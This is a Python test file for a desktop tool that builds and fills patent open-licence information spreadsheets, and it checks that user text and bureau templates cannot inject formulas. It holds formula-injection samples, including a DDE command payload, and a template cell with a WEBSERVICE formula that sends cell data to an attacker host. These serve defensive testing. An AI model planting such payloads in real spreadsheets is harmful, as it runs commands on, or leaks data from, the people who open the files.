"""Information tables: the profile's layout (xlsxwriter) and a bureau's blank template filled (openpyxl)."""

from __future__ import annotations

from datetime import date, datetime

import openpyxl
import pytest
from openpyxl.styles import Font, PatternFill

from openlic_desktop.documents.date_lines import SIGNATORY
from openlic_desktop.documents.info_table import fill_template, write_profile_table
from openlic_desktop.domain.profiles import TableColumn, TableLayout
from openlic_desktop.services.export import inspect_template
from openlic_desktop.services.profiles import get_profile, load_profiles, save_template_mapping
from openlic_desktop.support.errors import InputError

MOMENT = datetime(2026, 11, 26, 0, 0, 0)
BLANK_DAY = "日期：　　　　年　　月　　日"
NASTY = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "=HYPERLINK(\"http://x\")"]


def rows(n=3, title_prefix=""):
    return [{"seq": i + 1, "patent_number": f"ZL20211012345{i}.7", "application_number": f"20211012345{i}.7",
             "title": f"{title_prefix}一种测试装置{i}", "patentees": ["甲大学", "乙公司"], "filing_date": date(2021, 1, 5),
             "payment_mode": "一次性支付", "payment_standard": "10000.00元", "contact_person": "张三"}
            for i in range(n)]


def test_all_shipped_profiles_load_with_their_layout():
    profiles = load_profiles()
    assert {"general", "beijing", "shanghai", "shandong", "jiangsu", "zhejiang", "guangdong", "hubei",
            "shaanxi"} <= set(profiles)
    for p in profiles.values():
        fields = [c.field for c in p.layout.columns]
        # the pilot plan's minimum published content is in every shipped layout
        for must in ("patent_number", "patentees", "title", "payment_mode", "payment_standard", "licence_term",
                     "contact_person"):
            assert must in fields, (p.code, must)
        assert p.email_limit_mb >= 1


def test_every_table_heads_the_expiry_with_the_official_term():
    """The contracts, declarations and letters say 专利权期限届满日; the information table said 专利权有效期至."""
    import io

    from openlic_desktop.domain.profiles import DEFAULT_COLUMNS

    assert next(c.header for c in DEFAULT_COLUMNS if c.field == "expiry_date") == "专利权期限届满日"
    for p in load_profiles().values():
        headers = {c.field: c.header for c in p.layout.columns}
        if "expiry_date" not in headers:
            continue
        assert headers["expiry_date"] == "专利权期限届满日", p.code
        book = openpyxl.load_workbook(io.BytesIO(write_profile_table(p.layout, rows(1), {}, MOMENT)))
        cells = {str(c.value) for row in book.active.iter_rows() for c in row if c.value}
        assert "专利权期限届满日" in cells and not any("有效期至" in c for c in cells), p.code


def test_user_copy_overrides_and_bad_profile_is_refused(_hermetic_home):
    from openlic_desktop.support import paths

    folder = paths.data_dir() / "profiles"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "mine.toml").write_text('code = "zhejiang"\nname = "我的浙江"\nemail = "a@b.cn"\n', encoding="utf-8")
    assert get_profile("zhejiang").name == "我的浙江"
    (folder / "bad.toml").write_text('code = "x"\nname = "x"\n[[table.columns]]\nfield = "nope"\n', encoding="utf-8")
    with pytest.raises(InputError) as err:
        load_profiles()
    assert err.value.code == "PROFILE_INVALID"
    (folder / "bad.toml").unlink()
    with pytest.raises(InputError) as err:
        get_profile("atlantis")
    assert err.value.code == "PROFILE_UNKNOWN"


def test_profile_table_contents_and_formulas_stay_text(tmp_path):
    layout = get_profile("general").layout
    data = rows(2)
    for i, text in enumerate(NASTY):
        data.append({"seq": 10 + i, "title": text, "patentees": [text], "contact_person": text})
    blob = write_profile_table(layout, data, {"office": "测试大学", "date": "2026-11-26", "count": 7}, MOMENT)
    path = tmp_path / "t.xlsx"
    path.write_bytes(blob)
    book = openpyxl.load_workbook(path)
    sheet = book[layout.sheet]
    assert sheet["A1"].value == "专利开放许可信息表"
    assert "测试大学" in sheet["A2"].value and "共7件" in sheet["A2"].value
    header = [c.value for c in sheet[3]]
    assert header[:3] == ["序号", "专利号", "专利名称"]
    assert sheet["A4"].value == 1 and sheet["B4"].value == "ZL202110123450.7"
    assert sheet["E4"].value == "甲大学；乙公司"
    assert sheet["F4"].value == datetime(2021, 1, 5)
    for i, text in enumerate(NASTY):
        cell = sheet.cell(6 + i, 3)
        assert cell.value == text and cell.data_type == "s", text
        assert cell.quotePrefix
    # no formula anywhere in the sheet XML
    import zipfile
    with zipfile.ZipFile(path) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml


def test_profile_table_is_reproducible():
    layout = TableLayout(columns=(TableColumn("名称", "title"),))
    a = write_profile_table(layout, rows(5), {}, MOMENT)
    b = write_profile_table(layout, rows(5), {}, MOMENT)
    assert a == b


def make_template(path, footer=True, extra_sheet=True):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "附件1"
    sheet["A1"] = "某省专利开放许可信息表"
    sheet.merge_cells("A1:G1")
    sheet["A1"].font = Font(bold=True, size=16)
    sheet["A2"] = "填报单位（盖章）：          填报日期："
    headers = ["序号", "专利号", "专利名称", "专利权人", "许可使用费支付方式", "许可使用费标准", "奇怪的列"]
    for c, h in enumerate(headers, start=1):
        sheet.cell(3, c, h)
    fill = PatternFill("solid", fgColor="FFFF00")
    for c in range(1, 8):
        sheet.cell(4, c).fill = fill  # the template's styled first data row
    if footer:
        sheet["A6"] = "注：本表由专利权人填写。"
        sheet.merge_cells("A6:G6")
    if extra_sheet:
        notes = book.create_sheet("填表说明")
        notes["A1"] = "说明文字"
    book.save(path)


def test_template_filled_keeping_title_format_footer_and_sheets(tmp_path):
    template = tmp_path / "bureau.xlsx"
    make_template(template)
    mapping = inspect_template(template)
    assert mapping.sheet == "附件1" and mapping.header_row == 3
    assert mapping.columns == {1: "seq", 2: "patent_number", 3: "title", 4: "patentees", 5: "payment_mode",
                               6: "payment_standard"}
    assert mapping.unmapped == ["奇怪的列"]
    data = rows(4)
    data[1]["title"] = "=cmd|' /C calc'!A0"
    blob = fill_template(template, mapping, data, MOMENT)
    out = tmp_path / "filled.xlsx"
    out.write_bytes(blob)
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["附件1", "填表说明"]
    assert book["填表说明"]["A1"].value == "说明文字"
    sheet = book["附件1"]
    assert sheet["A1"].value == "某省专利开放许可信息表" and sheet["A1"].font.b
    assert "A1:G1" in {str(m) for m in sheet.merged_cells.ranges}
    assert [sheet.cell(r, 2).value for r in range(4, 8)] == [f"ZL20211012345{i}.7" for i in range(4)]
    assert sheet["C5"].value == "=cmd|' /C calc'!A0" and sheet["C5"].data_type == "s"
    assert sheet["D4"].value == "甲大学；乙公司"
    assert sheet["B7"].fill.fgColor.rgb.endswith("FFFF00")  # the data-row style carried to every row
    # the footer moved below the rows, with its merge
    assert sheet["A8"].value == "注：本表由专利权人填写。"
    assert "A8:G8" in {str(m) for m in sheet.merged_cells.ranges}
    assert fill_template(template, mapping, data, MOMENT) == blob  # reproducible


def test_saved_mapping_corrects_and_persists(tmp_path):
    template = tmp_path / "bureau.xlsx"
    make_template(template, footer=False, extra_sheet=False)
    first = inspect_template(template)
    saved = first.as_saved() | {"奇怪的列": "remarks", "专利权人": "inventors"}
    path = save_template_mapping("general", saved)
    assert path.parent.name == "profiles" and "# 通用配置" in path.read_text(encoding="utf-8")
    profile = get_profile("general")
    assert profile.template_mapping["奇怪的列"] == "remarks"
    again = inspect_template(template, profile.template_mapping)
    assert again.columns[7] == "remarks" and again.columns[4] == "inventors" and not again.unmapped
    save_template_mapping("general", again.as_saved() | {"奇怪的列": "contact_phone"})  # replaced, not appended
    assert path.read_text(encoding="utf-8").count("[template_mapping]") == 1
    assert get_profile("general").template_mapping["奇怪的列"] == "contact_phone"


def test_template_without_header_or_not_xlsx_is_refused(tmp_path):
    empty = tmp_path / "empty.xlsx"
    book = openpyxl.Workbook()
    book.active["A1"] = "hello"
    book.save(empty)
    with pytest.raises(InputError) as err:
        inspect_template(empty)
    assert err.value.code == "TEMPLATE_NO_HEADER"
    junk = tmp_path / "junk.xlsx"
    junk.write_bytes(b"not a zip")
    with pytest.raises(InputError) as err:
        inspect_template(junk)
    assert err.value.code == "TEMPLATE_UNREADABLE"


from hypothesis import given, settings
from hypothesis import strategies as st


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(min_size=1, max_size=40), min_size=1, max_size=5))
def test_any_text_round_trips_as_text(texts):
    """Whatever users typed comes back from the sheet as the same text (control characters an xlsx cannot hold
    dropped), never as a formula, number or date."""
    from openlic_desktop.documents.ooxml import clean_text

    layout = TableLayout(title_rows=(), columns=(TableColumn("名称", "title"),))
    blob = write_profile_table(layout, [{"title": t} for t in texts], {}, MOMENT)
    sheet = openpyxl.load_workbook(__import__("io").BytesIO(blob)).active
    for i, text in enumerate(texts, start=2):
        cell = sheet.cell(i, 1)
        expected = clean_text(text)
        if expected:
            assert cell.data_type == "s" and cell.value == expected


# --- a bureau's template whose header spans two rows -----------------------------------------------------------------

def make_two_row_template(path):
    """A group caption 许可条件 merged over 支付方式 / 支付标准 / 许可期限; the other captions merged down."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "信息表"
    sheet["A1"] = "专利开放许可信息表"
    sheet.merge_cells("A1:G1")
    for col, text in enumerate(["序号", "专利号", "专利名称", "专利权人"], start=1):
        sheet.cell(2, col, text)
        sheet.merge_cells(start_row=2, start_column=col, end_row=3, end_column=col)
    sheet["E2"] = "许可条件"
    sheet.merge_cells("E2:G2")
    for col, text in enumerate(["支付方式", "支付标准", "许可期限"], start=5):
        sheet.cell(3, col, text)
    sheet["A6"] = "填报单位（盖章）："
    book.save(path)


def test_a_two_row_header_is_found_and_filled_below_the_second_row(tmp_path):
    template = tmp_path / "two.xlsx"
    make_two_row_template(template)
    mapping = inspect_template(template)
    assert (mapping.header_top, mapping.header_row) == (2, 3)
    assert mapping.columns == {1: "seq", 2: "patent_number", 3: "title", 4: "patentees", 5: "payment_mode",
                               6: "payment_standard", 7: "licence_term"}
    assert mapping.groups == {5: "许可条件", 6: "许可条件", 7: "许可条件"} and mapping.unmapped == []
    data = [dict(r, licence_term="36个月") for r in rows(3)]
    sheet = openpyxl.load_workbook(__import__("io").BytesIO(fill_template(template, mapping, data, MOMENT)))["信息表"]
    # the header rows, their merges and the sub-headers are untouched
    assert [sheet.cell(3, c).value for c in (5, 6, 7)] == ["支付方式", "支付标准", "许可期限"]
    assert sheet["E2"].value == "许可条件" and sheet["A2"].value == "序号"
    merges = {str(m) for m in sheet.merged_cells.ranges}
    assert {"E2:G2", "A2:A3", "B2:B3", "C2:C3", "D2:D3", "A1:G1"} <= merges
    # every patent is there, from row 4, none lost under the sub-header
    assert [sheet.cell(r, 2).value for r in range(4, 7)] == [f"ZL20211012345{i}.7" for i in range(3)]
    assert [sheet.cell(r, 5).value for r in range(4, 7)] == ["一次性支付"] * 3
    assert sheet.cell(4, 7).value == "36个月"
    assert sheet["A7"].value == "填报单位（盖章）："  # the footer moved below the rows
    assert sheet.print_title_rows == "$1:$3" and sheet.page_setup.orientation == "landscape"


def test_the_sub_header_row_found_first_still_gives_the_whole_header(tmp_path):
    from openlic_desktop.documents.info_table import header_span

    template = tmp_path / "two.xlsx"
    make_two_row_template(template)
    sheet = openpyxl.load_workbook(template)["信息表"]
    assert header_span(sheet, 3) == (2, 3) and header_span(sheet, 2) == (2, 3)
    plain = tmp_path / "plain.xlsx"
    make_template(plain)
    assert header_span(openpyxl.load_workbook(plain)["附件1"], 3) == (3, 3)


def test_a_templates_formulas_and_links_are_not_kept(tmp_path):
    template = tmp_path / "evil.xlsx"
    make_template(template, footer=False)
    book = openpyxl.load_workbook(template)
    sheet = book["附件1"]
    sheet["H3"] = "核对"
    sheet["H4"] = '=WEBSERVICE("http://attacker.example/?d="&C4&B4)'
    sheet["A10"] = "填表说明"
    sheet["A10"].hyperlink = "http://attacker.example/"
    book.save(template)
    mapping = inspect_template(template)
    assert {"附件1!H4", "附件1!A10"} <= set(mapping.active_content)
    blob = fill_template(template, mapping, rows(2), MOMENT)
    import zipfile

    with zipfile.ZipFile(__import__("io").BytesIO(blob)) as z:
        xml = "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist()
                      if n.endswith((".xml", ".rels")))
    assert "WEBSERVICE" not in xml and "attacker.example" not in xml and "<f>" not in xml
    filled = openpyxl.load_workbook(__import__("io").BytesIO(blob))["附件1"]
    assert filled["B4"].value == "ZL202110123450.7" and filled["A10"].value == "填表说明"


def test_profile_table_has_the_commitment_footer_encumbrances_and_print_setup(tmp_path):
    layout = get_profile("general").layout
    fields = [c.field for c in layout.columns]
    assert "encumbrance" in fields and "contact_address" in fields
    blob = write_profile_table(layout, rows(2), {"office": "测试大学", "date": "2026-11-26", "count": 2}, MOMENT)
    sheet = openpyxl.load_workbook(__import__("io").BytesIO(blob))[layout.sheet]
    texts = [sheet.cell(r, 1).value for r in range(1, sheet.max_row + 1)]
    footer = [t for t in texts[texts.index(next(t for t in texts if str(t).startswith("承诺："))):]]
    assert footer[0].startswith("承诺：以上信息真实、准确、完整")
    assert footer[1:] == [None, "专利权人：甲大学（盖章）", SIGNATORY, BLANK_DAY,
                          None, "专利权人：乙公司（盖章）", SIGNATORY, BLANK_DAY]
    assert sheet.print_title_rows == "$1:$3" and sheet.page_setup.orientation == "landscape"
    # fit to one page wide (1 is the default width, so the file may leave it out), as many pages tall as needed
    assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth in (None, 1)
    assert sheet.page_setup.fitToHeight == 0 and sheet.print_options.gridLines


def test_a_template_without_column_widths_prints_every_patent_number_whole(tmp_path):
    """A bureau's blank table often sets no column widths: filled as it is, a printed 专利号 or 许可期限 was cut at
    Excel's default width. Columns the template left at the default get room for what we write, and every filled
    cell wraps; a width the bureau set is kept."""
    from openpyxl.styles import Alignment

    template = tmp_path / "bare.xlsx"
    make_two_row_template(template)
    book = openpyxl.load_workbook(template)
    book["信息表"].column_dimensions["C"].width = 30  # the bureau's own width for 专利名称
    book["信息表"]["B4"].alignment = Alignment(horizontal="center")
    book.save(template)
    mapping = inspect_template(template)
    data = [dict(r, licence_term="35个月（自许可生效之日起，不超过专利权期限届满日2029-12-01）") for r in rows(3)]
    sheet = openpyxl.load_workbook(__import__("io").BytesIO(fill_template(template, mapping, data, MOMENT)))["信息表"]
    widths = {k: d.width for k, d in sheet.column_dimensions.items()}
    assert widths["C"] == 30
    assert widths["B"] >= len("ZL202110123450.7") + 1
    assert widths["G"] >= 30  # the term's text is long: a wide column, wrapped, not a one-character strip
    for r in range(4, 7):
        assert all(sheet.cell(r, c).alignment.wrap_text for c in range(1, 8)), r
    assert sheet["B4"].alignment.horizontal == "center"  # the template's own alignment kept


def footer_of(blob: bytes) -> list:
    import io

    sheet = openpyxl.load_workbook(io.BytesIO(blob)).active
    texts = [sheet.cell(r, 1).value for r in range(1, sheet.max_row + 1)]
    return texts[next(i for i, t in enumerate(texts) if str(t).startswith("承诺：")) + 1:]


def test_a_patentee_who_is_a_person_signs_the_table_and_a_unit_seals_it():
    """The footer said 专利权人（盖章）： for everyone: a patentee recorded with a resident ID signs (签字), with no
    法定代表人 line; every patentee the rows name gets a block of its own, once, as in the commitment letter."""
    layout = get_profile("general").layout
    data = rows(3)
    data[0]["patentees"] = ["甲大学", "张三"]
    data[1]["patentees"] = ["张三"]
    data[2]["patentees"] = ["甲大学"]
    footer = footer_of(write_profile_table(layout, data, {}, MOMENT, people=frozenset({"张三", "不在表中"})))
    assert footer == [None, "专利权人：甲大学（盖章）", SIGNATORY, BLANK_DAY, None, "专利权人：张三（签字）", BLANK_DAY]
    assert not any("盖章" in str(t) and "张三" in str(t) for t in footer)
    # a table naming no patentee cannot tell seal from signature: 签章, as CNIPA's forms say
    nobody = [dict(r, patentees=[]) for r in rows(1)]
    assert footer_of(write_profile_table(layout, nobody, {}, MOMENT)) == [None, "专利权人（签章）：", BLANK_DAY]
